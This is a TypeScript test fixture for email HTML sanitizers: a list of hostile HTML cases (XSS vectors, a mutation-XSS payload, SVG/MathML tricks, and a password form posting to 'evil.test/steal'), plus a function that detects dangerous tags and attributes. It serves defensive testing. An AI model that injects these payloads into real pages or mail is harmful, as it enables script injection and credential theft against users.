// Hostile HTML for every sanitizer of mail (the reader's and the server's), and what may
// never survive it: each case says in its name what it attacks.

export const HOSTILE_HTML: [string, string][] = [
  ['script element', '<p>hi</p><script>alert(1)</script>'],
  ['script in odd case', '<ScRiPt>alert(1)</sCrIpT>'],
  ['event handler', '<img src="x" onerror="alert(1)"><body onload="alert(1)">'],
  ['handler on a link', '<a href="https://a.test" onclick="alert(1)" onmouseover="x()">a</a>'],
  ['javascript: link', '<a href="javascript:alert(1)">click</a>'],
  ['javascript: with entities', '<a href="jav&#x09;ascript:alert(1)">click</a>'],
  [
    'vbscript and data links',
    '<a href="vbscript:msgbox(1)">v</a><a href="data:text/html,<script>alert(1)</script>">d</a>',
  ],
  ['svg with script', '<svg><script>alert(1)</script><circle r="5"/></svg>'],
  ['svg onload', '<svg onload="alert(1)"></svg>'],
  [
    'svg animate href',
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
  ],
  ['svg use external', '<svg><use href="https://evil.test/x.svg#a"/></svg>'],
  ['math xlink', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'],
  [
    'iframe',
    '<iframe src="https://evil.test"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  ],
  [
    'object and embed',
    '<object data="https://evil.test/x.swf"></object><embed src="https://evil.test/x">',
  ],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.test">'],
  ['base href', '<base href="https://evil.test/">'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.test/x.css">'],
  [
    'form',
    '<form action="https://evil.test/steal"><input name="p" type="password"><button formaction="https://evil.test">go</button></form>',
  ],
  [
    'template and noscript',
    '<template><script>alert(1)</script></template><noscript><img src=x onerror=alert(1)></noscript>',
  ],
  [
    'mutation XSS',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  [
    'audio and video',
    '<video poster="https://evil.test/p.png" src="https://evil.test/v.mp4"></video><audio src="https://evil.test/a.mp3"></audio>',
  ],
];

/** An element as a parsed document gives it back, in a browser or in jsdom. */
interface ParsedElement {
  readonly tagName: string;
  readonly attributes: Iterable<{ readonly name: string; readonly value: string }>;
}

/** What may never be in sanitized markup, read from the document it parses back into. */
export function dangers(doc: {
  querySelectorAll(selectors: string): Iterable<ParsedElement>;
}): string[] {
  const found: string[] = [];
  for (const el of doc.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase();
    if (
      /^(script|iframe|frame|object|embed|form|input|button|textarea|select|meta|base|link|svg|math|template|noscript|video|audio)$/.test(
        tag,
      )
    ) {
      found.push(`<${tag}>`);
    }
    for (const attr of el.attributes) {
      if (/^on/i.test(attr.name)) found.push(`${tag}[${attr.name}]`);
      if (/^(href|src|action|formaction|xlink:href|poster|background)$/i.test(attr.name)) {
        if (!/^(https?:|mailto:|cid:|data:image\/)/i.test(attr.value.trim())) {
          found.push(`${tag}[${attr.name}=${attr.value}]`);
        }
      }
    }
  }
  return found;
}
